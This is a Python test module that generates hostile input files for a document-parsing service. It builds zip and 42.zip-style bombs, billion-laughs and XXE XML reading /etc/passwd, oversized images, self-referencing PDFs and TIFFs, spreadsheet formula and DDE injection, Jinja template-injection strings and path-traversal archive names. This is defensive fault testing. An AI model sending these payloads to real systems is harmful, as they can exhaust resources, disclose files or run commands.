"""Files made to hurt whoever reads them: blown up, nested, looped, endless. Each is small to send and dear to open.

`python -m tests.faults.hostile FOLDER` writes them all there. None is a form, so each has to be refused or asked about.
"""

import io
import struct
import sys
import zlib
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from xml.sax.saxutils import escape

import numpy as np
import numpy.typing as npt
from PIL import Image

from tests.unit.packing import zipped
from tests.unit.packing_archives import rar5, seven_zip, tarred

Maker = Callable[[], bytes]
Pixels = npt.NDArray[np.uint8]

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MEGABYTE = 1 << 20
DOUBLED = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(1, 31))
LAUGHS = f"<!DOCTYPE d [{DOUBLED}]>"
OUTSIDE = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def relations(inner: str) -> bytes:
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'.encode()


def relation(name: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"/>'


# --- Word ---


def word(main: str | bytes, more: Iterable[tuple[str, bytes]] = (), related: str = "") -> bytes:
    """A Word package whose main part is this."""
    return zipped(
        {
            "_rels/.rels": relations(relation("a", "officeDocument", "word/document.xml")),
            "word/_rels/document.xml.rels": relations(related),
            "word/document.xml": main if isinstance(main, bytes) else main.encode(),
            **dict(more),
        }
    )


def body(inner: str, doctype: str = "") -> str:
    return f'{HEAD}{doctype}<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'


def says(text: str) -> bytes:
    """A document of one paragraph."""
    return word(body(paragraph(text)))


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def cell(inner: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{inner}</w:tc>"


def table(*rows: str) -> bytes:
    """A document of one table; its rows are cells, one after the other."""
    return word(body(f"<w:tbl>{''.join(f'<w:tr>{row}</w:tr>' for row in rows)}</w:tbl>"))


VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
MACRO = relation("m", "vbaProject", "vbaProject.bin")
ELSEWHERE = relation("t", "attachedTemplate", "http://127.0.0.1:9/x.dotm").replace("/>", ' TargetMode="External"/>')


def tables_deep(depth: int) -> bytes:
    opening, closing = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return word(body(opening * depth + paragraph("姓名") + closing * depth))


def headers(count: int) -> bytes:
    related = "".join(relation(f"h{number}", "header", f"header{number}.xml") for number in range(count))
    parts = ((f"word/header{number}.xml", f'<w:hdr xmlns:w="{WORD}">{paragraph(str(number))}</w:hdr>'.encode())
             for number in range(count))  # fmt: skip
    return word(body(paragraph("姓名")), parts, related)


def boxes(count: int) -> bytes:
    box = (
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
        f"{paragraph('姓名：张三')}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    return word(body(f"<w:p>{box * count}</w:p>"))


WORDS: Mapping[str, Maker] = {
    "tables_10000_deep": lambda: tables_deep(10_000),
    "tables_80_deep": lambda: tables_deep(80),
    "paragraphs_million": lambda: word(body("<w:p/>" * 1_000_000)),
    "paragraph_50_mb": lambda: says("字" * (50 * MEGABYTE // 3)),
    "runs_600000": lambda: word(body(f"<w:p>{'<w:r><w:t>字</w:t></w:r>' * 600_000}</w:p>")),
    "row_of_10000_cells": lambda: table("".join(cell(paragraph(f"姓名{n}")) for n in range(10_000))),
    "rows_20000": lambda: table(*(cell(paragraph("姓名")) + cell(paragraph(f"张{n}")) for n in range(20_000))),
    "rows_merged": lambda: table(*[cell(paragraph("姓名"), "<w:vMerge/>") + cell("<w:p/>")] * 20_000),
    "span_huge": lambda: table(cell(paragraph("姓名"), '<w:gridSpan w:val="999999999999"/>') + cell("<w:p/>")),
    "part_of_200_mb": lambda: word(b"<a>" + bytes(200_000_000).replace(b"\0", b" ") + b"</a>"),
    "elements_200_mb": lambda: word(body("<w:p/>" * 33_000_000)),
    "laughs": lambda: word(body(paragraph("&a30;"), LAUGHS)),
    "outside": lambda: word(body(paragraph("姓名&a;"), OUTSIDE)),
    "headers_5000": lambda: headers(5_000),
    "boxes_20000": lambda: boxes(20_000),
    "relations_200000": lambda: word(body("<w:p/>"), related=relation("h", "image", "media/a.png") * 200_000),
    "attributes_100000": lambda: word(body("<w:p " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>")),
    "digits": lambda: says("身份证号：" + "1" * 2 * MEGABYTE),
    "blanks": lambda: says("姓名：" + "_" * 2 * MEGABYTE),
    "macro": lambda: word(body(paragraph("姓名")), [("word/vbaProject.bin", VBA)], MACRO),
    "template_elsewhere": lambda: word(body(paragraph("姓名")), related=ELSEWHERE),
    "jinja": lambda: says("{{ 7*7 }}{% for x in range(9**9) %}{% endfor %}{{ ''.__class__.__mro__ }}"),
    "year_month_day": lambda: says("年月日" * 300_000),
}


# --- pictures ---


def png(width: int, height: int, kind: int = 2, bits: int = 8) -> bytes:
    """A picture of zeros as large as its header says. kind: 0 grey, 2 colour, 6 colour with alpha."""
    line = 1 + (width * {0: 1, 2: 3, 6: 4}[kind] * bits + 7) // 8
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(line)) for _ in range(height)) + packer.flush()
    made = b"\x89PNG\r\n\x1a\n"
    header = struct.pack(">IIBBBBB", width, height, bits, kind, 0, 0, 0)
    for name, data in ((b"IHDR", header), (b"IDAT", packed), (b"IEND", b"")):
        made += struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return made


def saved(picture: Image.Image, kind: str, rest: Iterable[Image.Image] = ()) -> bytes:
    data = io.BytesIO()
    more = list(rest)
    picture.save(data, kind, **({"save_all": True, "append_images": more} if more else {}))
    return data.getvalue()


def frames(kind: str, count: int) -> bytes:
    first, *rest = (Image.new("L", (200, 280), 255 - number % 3) for number in range(count))
    return saved(first, kind, rest)


def page(pixels: Pixels) -> bytes:
    return saved(Image.fromarray(pixels), "PNG")


def noise() -> Pixels:
    return np.random.default_rng(7).integers(0, 256, (2_340, 1_654), dtype=np.uint8)


def ruled(step: int) -> Pixels:
    """A page all of small cells."""
    pixels = np.full((2_340, 1_654), 255, np.uint8)
    pixels[::step, :] = 0
    pixels[:, ::step] = 0
    return pixels


def pages_in_a_circle() -> bytes:
    """A TIFF whose next page is its first."""
    data = bytearray(saved(Image.new("L", (300, 400), 255), "TIFF"))
    [start] = struct.unpack("<I", data[4:8])
    [entries] = struct.unpack("<H", data[start : start + 2])
    data[start + 2 + 12 * entries : start + 6 + 12 * entries] = struct.pack("<I", start)
    return bytes(data)


PICTURES: Mapping[str, Maker] = {
    "10000.png": lambda: png(10_000, 10_000),
    "10900_alpha.png": lambda: png(10_900, 10_900, 6),
    "50000.png": lambda: png(50_000, 50_000, 0, 1),
    "30000.png": lambda: png(30_000, 30_000, 0, 1),
    "strip.png": lambda: png(200_000, 300, 0),
    "10000.jpg": lambda: saved(Image.new("RGB", (10_000, 10_000), "white"), "JPEG"),
    "10000.bmp": lambda: saved(Image.new("1", (10_000, 10_000), 1), "BMP"),
    "1000_pages.tif": lambda: frames("TIFF", 1_000),
    "circle.tif": pages_in_a_circle,
    "3000_frames.gif": lambda: frames("GIF", 3_000),
    "500_frames.webp": lambda: frames("WEBP", 500),
    "noise.png": lambda: page(noise()),
    "ruled_10.png": lambda: page(ruled(10)),
    "ruled_70.png": lambda: page(ruled(70)),
    "cut.heic": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(5_000),
}


# --- PDF ---


def pdf(*objects: str | bytes) -> bytes:
    """Objects 1, 2, ... of a PDF; the first is its catalog."""
    made = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content if isinstance(content, bytes) else content.encode())
    table_of = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, len(made))
    return made + b"xref\n0 %d\n0000000000 65535 f \n" % count + table_of + trailer


def stream(content: bytes, entries: str = "") -> bytes:
    data = zlib.compress(content, 9)
    return f"<</Length {len(data)}/Filter/FlateDecode{entries}>>\nstream\n".encode() + data + b"\nendstream"


LETTERS = b"BT /F 12 Tf 50 800 Td (a form) Tj ET\n"


def one_page(content: bytes, resources: str = "", *more: str | bytes) -> bytes:
    """A PDF of one page. resources: beside the font, which is object 5; more: the objects from 6 on."""
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>{resources}>>>>",
        stream(content),
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


def drawing(content: bytes, names: str = "") -> bytes:
    return stream(content, f"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<<{names}>>>>")


def drawings_doubling(depth: int) -> bytes:
    """Each draws the next one twice."""
    more = [drawing(b"/X Do /X Do", f"/X {7 + number} 0 R") for number in range(depth)]
    return one_page(LETTERS + b"/X Do", "/XObject<</X 6 0 R>>", *more, drawing(b"0 0 10 10 re f"))


def strokes(count: int) -> bytes:
    lines = (b"%d %d m %d %d l S\n" % (n % 590, n % 840, (n * 7) % 590, n % 840) for n in range(count))
    return one_page(LETTERS + b"".join(lines))


def cells(step: float) -> bytes:
    lying = (b"20 %.1f m 575 %.1f l S\n" % (20 + n * step, 20 + n * step) for n in range(int(800 / step)))
    standing = (b"%.1f 20 m %.1f 820 l S\n" % (20 + n * step, 20 + n * step) for n in range(int(555 / step)))
    return one_page(LETTERS + b"".join(lying) + b"".join(standing))


def picture(side: int, data: bytes) -> bytes:
    size = f"/Width {side}/Height {side}/BitsPerComponent 8"
    return stream(data, f"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray{size}")


def wide_font() -> bytes:
    """A font whose list of widths says that there are nine hundred million letters."""
    about = "/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>"
    return one_page(
        b"BT /G 12 Tf 50 800 Td <0041> Tj ET",
        "/Font<</G 6 0 R>>",
        "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[7 0 R]>>",
        f"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 900000000 500]{about}>>",
    )


def same_page(count: int) -> bytes:
    """A tree whose pages are all the same one."""
    return one_page(LETTERS).replace(b"/Kids[3 0 R]/Count 1>>", b"/Kids[%b]/Count %d>>" % (b"3 0 R " * count, count))


SHOWN = "/XObject<</I 6 0 R>>"
SHOW = b"q 595 0 0 842 0 0 cm /I Do Q "
PDFS: Mapping[str, Maker] = {
    "strokes_100000": lambda: strokes(100_000),
    "strokes_million": lambda: strokes(1_000_000),
    "cells_300": lambda: cells(2.7),
    "letters_million": lambda: one_page(b"BT /F 4 Tf 4 TL 10 835 Td " + b"(abcdefghij klmnopqrst) ' " * 50_000 + b"ET"),
    "doubling": lambda: drawings_doubling(28),
    "itself": lambda: one_page(LETTERS + b"/X Do", "/XObject<</X 6 0 R>>", drawing(b"/X Do", "/X 6 0 R")),
    "circle": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"),
    "pages_5000": lambda: same_page(5_000),
    "pages_10000": lambda: same_page(10_000),
    "stream_1_gb": lambda: one_page(b"% " + bytes(1_000 * MEGABYTE)),
    "picture_20000": lambda: one_page(SHOW, SHOWN, picture(20_000, bytes(20_000**2))),
    "picture_claims": lambda: one_page(SHOW, SHOWN, picture(60_000, bytes(1_000))),
    "picture_5000_times": lambda: one_page(SHOW * 5_000, SHOWN, picture(1_000, bytes(1_000_000))),
    "wide_font": wide_font,
    "arrays_deep": lambda: one_page(LETTERS, "", "[" * 50_000 + "]" * 50_000),
    "curves": lambda: one_page(LETTERS + b"10 10 m 20 20 30 30 40 10 c S " * 200_000),
}


# --- workbooks ---


def workbook(rows: str, after: str = "", doctype: str = "", more: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """A workbook of one sheet."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        f'"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/a.xml" ContentType="{kind}.worksheet+xml"/></Types>'
    )
    book = f'<sheets><sheet xmlns:r="{OFFICE}" name="a" sheetId="1" r:id="r1"/></sheets>'
    sheet = f'{HEAD}{doctype}<worksheet xmlns="{SHEETS}"><sheetData>{rows}</sheetData>{after}</worksheet>'
    return zipped(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": relations(relation("a", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'{HEAD}<workbook xmlns="{SHEETS}">{book}</workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": relations(relation("r1", "worksheet", "a.xml")),
            "xl/a.xml": sheet.encode(),
            **dict(more),
        }
    )


def merged(count: int) -> str:
    return "<mergeCells>" + "".join(f'<mergeCell ref="A{n}:Z{n}"/>' for n in range(1, count)) + "</mergeCells>"


ONE = "<row><c><v>1</v></c></row>"
FORMULAS = ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", '=HYPERLINK("http://127.0.0.1:9/"&A1)', "=DDE(1)")
INJECTED = "".join(
    f'<row><c><f>{escape(text[1:])}</f><v>1</v></c><c t="str"><v>{escape(text)}</v></c></row>' for text in FORMULAS
)
BOOKS: Mapping[str, Maker] = {
    "injection": lambda: workbook(INJECTED),
    "formulas_million": lambda: workbook(f"<row>{'<c><f>A1</f></c>' * 1_000_000}</row>"),
    "merged_all": lambda: workbook(ONE, '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "merged_many": lambda: workbook(ONE, merged(30_000)),
    "far": lambda: workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "laughs": lambda: workbook('<row><c t="str"><v>&a30;</v></c></row>', doctype=LAUGHS),
    "outside": lambda: workbook('<row><c t="str"><v>姓名&a;</v></c></row>', doctype=OUTSIDE),
    "rows_deep": lambda: workbook("<row>" * 100_000),
    "strings": lambda: workbook(ONE, more=[("xl/sharedStrings.xml", b"<sst>" + b"a" * 150_000_000)]),
}


# --- mails, archives, and the rest ---


def mails_deep(depth: int) -> bytes:
    head = b"From: a@example.cn\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    return head + b"Content-Type: message/rfc822\r\n\r\nFrom: b@example.cn\r\n" * depth


def parts_deep(depth: int) -> bytes:
    part = b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n'
    return b"From: a@example.cn\r\nSubject: x\r\n" + b"".join(part % (number, number) for number in range(depth))


def parts(count: int) -> bytes:
    one = b"--b\r\nContent-Type: application/octet-stream; name=a.docx\r\n\r\nPK\x03\x04\r\n"
    return b"From: a@example.cn\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + one * count


def zeros(megabytes: int) -> bytes:
    return zipped({"a.docx": bytes(megabytes * MEGABYTE)})


def zips(depth: int, width: int, core: bytes) -> bytes:
    """Zips in zips, `width` side by side at each depth."""
    for _ in range(depth):
        core = zipped({f"{number}.zip": core for number in range(width)})
    return core


def listed(count: int) -> bytes:
    """A zip that is nothing but a list of so many entries."""
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    stated = min(count, 0xFFFF)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, stated, stated, len(entry) * count, 0, 0)
    return b"PK\3\4" + entry * count + end


# Names of members that lead elsewhere, or look like others.
NAMES = (
    "../../outside.txt", "/outside.txt", "C:\\outside.txt", "..\\..\\outside.txt", "CON", "aux.txt", "a/../../b.txt",
    "~/x", "长" * 84 + ".txt", "报名表\u202excod.exe", "a\u200f\u2066b.txt", "{{ 7*7 }}.txt", "=1+1.txt", "a\nb.txt",
    " .", "...",
)  # fmt: skip


def odd_names() -> dict[str, bytes]:
    return {name: f"{number}".encode() for number, name in enumerate(NAMES)}


def overlapping() -> bytes:
    """Thousands of entries that are all the same packed megabytes."""
    data = zeros(19)
    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    count, entry = 1_900, data[at:end]
    end_record = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(entry) * count, at, 0)
    return data[:at] + entry * count + end_record


ODT = b"application/vnd.oasis.opendocument.text"
OTHERS: Mapping[str, Maker] = {
    "mails_5000_deep.eml": lambda: mails_deep(5_000),
    "parts_100_deep.eml": lambda: parts_deep(100),
    "parts_3000_deep.eml": lambda: parts_deep(3_000),
    "parts_200000.eml": lambda: parts(200_000),
    "subject.eml": lambda: b"From: a@example.cn\r\nSubject: " + b"=?utf-8?q?a?= " * 1_500_000 + b"\r\n\r\nbody",
    "lines.eml": lambda: b"From: a@example.cn\r\nSubject: a\r\n\r\n" + b"body\r\n" * 16_000_000,
    "bomb.zip": lambda: zeros(1_000),
    "zips_16_wide.zip": lambda: zips(3, 16, zeros(19)),
    "zips_1900_wide.zip": lambda: zips(1, 1_900, zeros(15)),
    "overlapping.zip": overlapping,
    "entries.zip": lambda: zipped({f"{number}.txt": b"" for number in range(30_000)}),
    "million.zip": lambda: listed(1_000_000),
    "42.zip": lambda: zips(5, 4, zeros(100)),
    "entries.rar": lambda: rar5({f"{number}.txt": b"" for number in range(200_000)}),
    "entries.7z": lambda: seven_zip({f"{number}.txt": b"" for number in range(30_000)}),
    "bomb.tgz": lambda: tarred({"a.docx": bytes(1_000 * MEGABYTE)}, "w:gz"),
    "names.zip": lambda: zipped(odd_names()),
    "names.rar": lambda: rar5(odd_names()),
    "names.7z": lambda: seven_zip(odd_names()),
    "names.tar": lambda: tarred(odd_names()),
    "deck.pptx": lambda: zipped({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
    "invoice.ofd": lambda: zipped({"OFD.xml": b"<ofd/>"}),
    "clip.mp4": lambda: b"\x00\x00\x00\x20ftypisom" + bytes(50 * MEGABYTE),
    "mimetype.odt": lambda: zipped({"mimetype": ODT + bytes(1_000 * MEGABYTE)}),
    "groups.rtf": lambda: b"{\\rtf1" + b"{" * 2_000_000,
    "words.rtf": lambda: b"{\\rtf1 " + b"word \\par " * 5_000_000 + b"}",
    "zeros.docx": lambda: bytes(100 * MEGABYTE),
    "random.doc": lambda: np.random.default_rng(3).bytes(20 * MEGABYTE),
    "page.html": lambda: b"<html>" + b"<div>" * 10_000_000,
    "text.txt": lambda: "姓名：张三\n".encode() * 6_000_000,
}


def everything() -> dict[str, Maker]:
    """Name of a file -> what makes it."""
    by_ending: Mapping[str, Mapping[str, Maker]] = {"docx": WORDS, "pdf": PDFS, "xlsx": BOOKS}
    found = {f"{name}.{ending}": make for ending, makers in by_ending.items() for name, make in makers.items()}
    return {**found, **PICTURES, **OTHERS}


if __name__ == "__main__":
    for file_name, make_file in everything().items():
        Path(sys.argv[1], file_name).write_bytes(make_file())
